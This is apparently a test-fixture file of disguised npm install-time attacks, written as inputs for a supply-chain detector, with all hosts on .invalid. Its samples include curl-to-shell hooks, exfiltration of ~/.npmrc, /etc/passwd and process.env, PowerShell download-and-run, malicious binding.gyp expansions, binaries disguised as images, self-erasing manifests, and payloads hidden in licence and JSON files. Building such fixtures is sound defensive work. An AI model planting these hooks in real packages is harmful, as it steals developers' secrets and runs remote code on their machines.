"""Attacks on npm that act on install, each in disguises of our own; every host is `.invalid`."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

from tests.npm_attacks.attack import Attack, elf

INSTALL = (
    # 16: a hook that fetches a runtime for a bundle
    Attack("16 bun by curl", {
        "setup_bun.js": """
const { execSync, spawn } = require('child_process'); const path = require('path'), os = require('os'), fs = require('fs');
function has(n) { try { execSync(process.platform === 'win32' ? `where ${n}` : `which ${n}`, { stdio: 'ignore' }); return true } catch { return false } }
async function main() { let bun = 'bun';
  if (!has('bun')) { execSync('curl -fsSL https://bun.invalid/install | bash', { stdio: 'ignore' }); bun = path.join(os.homedir(), '.bun', 'bin', 'bun'); }
  spawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref(); }
main().catch(() => process.exit(0));""",
        "bun_environment.js": "module.exports = 1;",
    }, scripts={"preinstall": "node setup_bun.js"}),
    Attack("16 runtime unpacked beside", {
        "scripts/setup.mjs": """
import https from 'node:https'; import { createWriteStream, chmodSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os'; import { join, dirname } from 'node:path'; import { spawnSync } from 'node:child_process'; import { fileURLToPath } from 'node:url';
const here = dirname(fileURLToPath(import.meta.url)); const box = mkdtempSync(join(tmpdir(), 'b-'));
const to = join(box, 'runtime');
https.get('https://dl.invalid/bun-linux-x64', r => r.pipe(createWriteStream(to)).on('finish', () => {
  chmodSync(to, 0o755); spawnSync(to, [join(here, '..', 'dist', 'environment.js')], { stdio: 'ignore' }); }));""",
        "dist/environment.js": "export default 1;",
    }, scripts={"postinstall": "node ./scripts/setup.mjs || exit 0"}),
    Attack("16 installs the runtime by npm", {
        "index.ts": """
import { readFileSync } from 'fs'; import { homedir } from 'os';
const rc: string = readFileSync(`${homedir()}/.npmrc`, 'utf8');
await fetch('https://drop.invalid/in', { method: 'POST', body: rc });""",
    }, scripts={"preinstall": "(command -v bun || npm i -g bun) && bun run index.ts"}),
    # 17: one-liners in the hook itself
    Attack("17 curl to shell", {"index.js": ""}, scripts={"preinstall": "curl -s https://x.invalid/$(whoami)/i.sh | sh"}),
    Attack("17 node -e", {"index.js": ""}, scripts={
        "postinstall": "node -e \"const h=require('os').hostname();require('dns').lookup(h+'.'+process.env.USER+'.c.invalid',()=>{})\""}),
    Attack("17 wget posts a file", {"index.js": ""}, scripts={"install": "wget -q --post-file=/etc/passwd http://x.invalid/p -O /dev/null; true"}),
    Attack("17 powershell", {"index.js": ""}, scripts={
        "preinstall": "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\""}),
    Attack("17 by another script's name", {"index.js": ""}, scripts={
        "postinstall": "npm run -s fix", "fix": "sh -c \"$(curl -fsSL https://x.invalid/fix)\""}),
    # 18: a build description without a script
    Attack("18 expansion", {
        "binding.gyp": "{'targets': [{'target_name': 'a', 'type': 'none', 'sources': ['<!(node lib/pre.js > /dev/null && echo x.c)']}]}",
        "lib/pre.js": "require('https').request('https://c.invalid/', {method:'POST'}).end(JSON.stringify(process.env));",
    }),
    Attack("18 included file", {
        "binding.gyp": "{'includes': ['build/common.gypi'], 'targets': [{'target_name': 'a', 'type': 'none'}]}",
        "build/common.gypi": "{'variables': {'root%': '<!(curl -s https://x.invalid/s | sh)'}}",
    }),
    Attack("18 action", {
        "binding.gyp": """{"targets": [{"target_name": "a", "type": "none", "actions": [{"action_name": "prep",
"inputs": [], "outputs": ["x"], "action": ["node", "-e", "require('child_process').execSync('curl https://x.invalid/s|sh')"]}]}]}""",
    }),
    Attack("18 condition", {
        "binding.gyp": "{'targets': [{'target_name': 'a', 'conditions': [['OS==\"linux\"', {'libraries': ['<!@(sh -c \"wget -qO- http://x.invalid/l | sh\")']}]]}]}",
    }),
    # 19: a bundled program
    Attack("19 started by the hook", {"tools/setup": elf(), "index.js": ""}, scripts={"postinstall": "./tools/setup"}),
    Attack("19 started by a script", {
        "lib/data.bin": elf(),
        "install.js": """const p = require('path').join(__dirname, 'lib', 'data.bin');
require('fs').chmodSync(p, 0o755); require('child_process').spawn(p, [], {detached: true, stdio: 'ignore'}).unref();""",
    }, scripts={"install": "node install.js"}),
    Attack("19 under another name", {
        "assets/logo.png": elf(),
        "post.sh": "#!/bin/sh\ncp assets/logo.png /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\n",
    }, scripts={"postinstall": "sh post.sh"}),
    # 20, 31: what the staged dependency does
    Attack("20 swaps its manifest", {
        "setup.js": """const fs=require('fs'),os=require('os'),cp=require('child_process'),path=require('path');
const u={darwin:'https://s.invalid/m',win32:'https://s.invalid/w',linux:'https://s.invalid/l'}[os.platform()];
const t=path.join(os.tmpdir(),'6202033'); cp.execSync(`curl -s -o ${t} ${u}`); fs.chmodSync(t,0o755); cp.exec(`nohup ${t} > /dev/null 2>&1 &`);
fs.unlinkSync(__filename); fs.renameSync(path.join(__dirname,'package.md'), path.join(__dirname,'package.json'));""",
        "package.md": '{"name": "demo", "version": "1.0.0"}',
    }, scripts={"postinstall": "node setup.js"}),
    Attack("20 TLS off", {
        "setup.cjs": """process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const {writeFileSync} = require('fs'), {join} = require('path'), {spawn} = require('child_process');
(async () => { const r = await fetch('https://203.0.113.7:8000/update/49890878'); const b = Buffer.from(await r.arrayBuffer());
const f = join(require('os').tmpdir(), 'n.js'); writeFileSync(f, b); spawn(process.execPath, [f], {detached: true, stdio: 'ignore'}).unref(); })();""",
    }, scripts={"postinstall": "node setup.cjs --no-warnings"}),
    Attack("31 downloader by platform", {
        "lib/get.js": """const https=require('https'),fs=require('fs'),os=require('os');
module.exports=function(n,cb){const f=os.tmpdir()+'/'+n;const s=fs.createWriteStream(f);https.get(['https:/','d.invalid',n].join('/'),r=>{r.pipe(s);s.on('finish',()=>{s.close(()=>cb(f))})})}""",
        "install.js": """const get=require('./lib/get');const names={win32:'a.exe',darwin:'a.mac'};
get(names[process.platform]||'a.elf',f=>{require('fs').chmodSync(f,493);require('child_process').execFile(f)});""",
    }, scripts={"install": "node install"}),
    Attack("31 renames itself after", {
        "install.js": """const {execSync}=require('child_process'),fs=require('fs');
if(process.platform==='win32'){execSync('powershell -c "iwr http://d.invalid/a.exe -OutFile $env:TEMP\\\\a.exe; Start-Process $env:TEMP\\\\a.exe"')}
else{execSync('curl -so /tmp/a http://d.invalid/a; chmod 755 /tmp/a; /tmp/a &')}
fs.renameSync('clean.json','package.json');fs.unlinkSync('install.js');""",
        "clean.json": "{}",
    }, scripts={"postinstall": "node install.js"}),
    # 21: dependencies from elsewhere
    Attack("21 commit outside any branch", {"index.js": ""}, manifest={
        "optionalDependencies": {"@demo/setup": "github:demo/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c"}}),
    Attack("21 address", {"index.js": ""}, manifest={"dependencies": {"ui-styles": "http://packages.invalid/npm/ui-styles"}}),
    Attack("21 address of a peer", {"index.js": ""}, manifest={"peerDependencies": {"ui-styles": "http://packages.invalid/npm/ui-styles"}}),
    # 30: the payload lies in a data file
    Attack("30 hexadecimal in JSON", {
        "preinstall.json": '{"v": "636f6e736f6c652e6c6f672822646f65732022202b20226e6f7468696e672229"}',
        "preinstall.js": "const d=require('./preinstall.json');eval(Buffer.from(d.v,'hex').toString('utf8'));",
    }, scripts={"preinstall": "node preinstall.js"}),
    Attack("30 behind a licence", {
        "LICENSE": "MIT\n" + "a" * 200 + "\n==\nY29uc29sZS5sb2coImRvZXMgIiArICJub3RoaW5nIik7\n",
        "postinstall.js": """const t=require('fs').readFileSync(__dirname+'/LICENSE','utf8').split('==')[1];
new Function('require', Buffer.from(t.trim(),'base64').toString())(require);""",
    }, scripts={"postinstall": "node postinstall.js"}),
    Attack("30 compiled as a module", {
        "fixtures/a.txt": "6d6f64756c652e6578706f7274733d31",
        "i.js": """const Module=require('module'),fs=require('fs'),path=require('path');
const s=fs.readFileSync(path.join(__dirname,'fixtures','a.txt'),'utf8').match(/../g).map(x=>String.fromCharCode(parseInt(x,16))).join('');
const m=new Module('x');m._compile(s,'x');""",
    }, scripts={"install": "node i.js"}),
)  # fmt: skip
